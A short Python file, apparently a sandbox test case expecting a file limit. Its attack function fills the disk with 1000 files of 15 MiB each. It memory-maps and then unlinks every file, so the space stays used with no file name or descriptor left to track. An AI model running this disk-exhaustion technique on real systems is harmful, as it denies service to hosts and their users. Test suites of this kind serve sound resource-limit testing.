# outcome: limit files
"""Fills the disk with files that are only mapped: no name, no descriptor."""

import ctypes
import os
import time


def attack(target):
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    for number in range(1000):
        with open(f"file{number}", "w+b") as file:
            for _ in range(15):
                file.write(b"x" * (1 << 20))
            file.flush()
            libc.mmap(None, ctypes.c_size_t(4096), 1, 1, file.fileno(), ctypes.c_long(0))
        os.unlink(f"file{number}")
        time.sleep(0.01)
